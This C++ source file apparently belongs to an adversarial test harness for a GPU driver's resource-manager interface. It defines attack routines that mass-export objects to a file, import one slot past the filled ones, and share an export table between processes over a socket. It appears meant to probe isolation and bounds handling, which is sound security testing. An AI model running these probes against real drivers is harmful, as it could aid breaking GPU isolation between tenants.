// Attacks with files that hold several exported objects.
#include <unistd.h>

#include <algorithm>
#include <iterator>

#include "common.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"

namespace cgpu::adversary {
namespace {

std::uint32_t ExportAll(const Client& client, int file, const std::vector<std::uint32_t>& objects,
                        std::uint16_t index) {
  rm::NV0000_CTRL_OS_UNIX_EXPORT_OBJECTS_TO_FD_PARAMS params{};
  params.fd = file;
  params.hDevice = Client::kDevice;
  params.maxObjects = 512;
  params.numObjects = static_cast<std::uint16_t>(objects.size());
  params.index = index;
  std::copy(objects.begin(), objects.end(), std::begin(params.objects));
  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_EXPORT_OBJECTS_TO_FD, &params,
                        sizeof(params));
}

std::uint32_t ImportAll(const Client& client, int file, std::uint16_t index, std::uint16_t count,
                        std::vector<std::uint32_t>* objects) {
  rm::NV0000_CTRL_OS_UNIX_IMPORT_OBJECTS_FROM_FD_PARAMS params{};
  params.fd = file;
  params.hParent = Client::kDevice;
  params.numObjects = count;
  params.index = index;
  const auto status = client.Control(
      client.root, rm::NV0000_CTRL_CMD_OS_UNIX_IMPORT_OBJECTS_FROM_FD, &params, sizeof(params));
  objects->assign(std::begin(params.objects), std::begin(params.objects) + count);
  return status;
}

// Allocates and exports many at a time, each to places of its own, and frees the handles. Then it
// imports them all, and closes the file: what it has is the same.
int ExportMany(const std::vector<std::string>& args) {
  constexpr std::uint64_t kStep = 16;
  constexpr std::uint16_t kBatch = 8;
  Client client = MakeClient();
  const std::uint64_t wanted = Number(args, 0, 4096);
  const int file = OpenControl();
  std::uint16_t places = 0;
  while (places * kStep < wanted && places + kBatch <= 512) {
    std::vector<std::uint32_t> objects;
    while (objects.size() < kBatch) {
      std::uint32_t object = 0;
      if (client.AllocMemory(kStep, &object) != rm::NV_OK) {
        break;
      }
      objects.push_back(object);
    }
    if (objects.empty()) {
      break;
    }
    if (const auto status = ExportAll(client, file, objects, places); status != rm::NV_OK) {
      Say("no export: 0x%x", status);
      break;
    }
    places = static_cast<std::uint16_t>(places + objects.size());
    for (const std::uint32_t object : objects) {
      (void)client.Free(object);
    }
  }
  Say("exported %u", unsigned{places});
  unsigned imported = 0;
  for (std::uint16_t i = 0; i < places; i = static_cast<std::uint16_t>(i + kBatch)) {
    // One place more than there are objects: it is empty.
    const auto count = static_cast<std::uint16_t>(std::min<int>(kBatch, places - i + 1));
    std::vector<std::uint32_t> handles;
    if (ImportAll(client, file, i, count, &handles) == rm::NV_OK) {
      imported += static_cast<unsigned>(
          std::count_if(handles.begin(), handles.end(), [](std::uint32_t h) { return h != 0; }));
    }
  }
  Say("imported %u", imported);
  close(file);
  Hold();
  return 0;
}

// Has a file with an object at place 0 and sends it; or receives one, puts an object of its own at
// place 1, and imports both.
int TableOwner(const std::vector<std::string>& args) {
  Client client = MakeClient();
  const int file = OpenControl();
  std::uint32_t object = 0;
  if (client.AllocMemory(Number(args, 1, 512), &object) != rm::NV_OK ||
      ExportAll(client, file, {object}, 0) != rm::NV_OK) {
    Die("failed: no export");
  }
  HandOut(args.at(0), file);
  Hold();
  return 0;
}

int TableGuest(const std::vector<std::string>& args) {
  Client client = MakeClient();
  const int file = ReceiveFd(ConnectTo(args.at(0)));
  std::uint32_t object = 0;
  if (client.AllocMemory(1, &object) != rm::NV_OK) {
    Die("failed: no memory");
  }
  Say("own 0x%x", ExportAll(client, file, {object}, 1));
  std::vector<std::uint32_t> handles;
  const auto status = ImportAll(client, file, 0, 2, &handles);
  Say("import 0x%x", status != rm::NV_OK || handles[0] != 0 ? status : kNoAnswer);
  close(file);
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> ExportAttacks() {
  return {
      {"export-many", ExportMany, "[MIB]"},
      {"table-owner", TableOwner, "NAME [MIB]: exports and hands the file out at a socket"},
      {"table-guest", TableGuest, "NAME: imports what comes from there"},
  };
}

}  // namespace cgpu::adversary
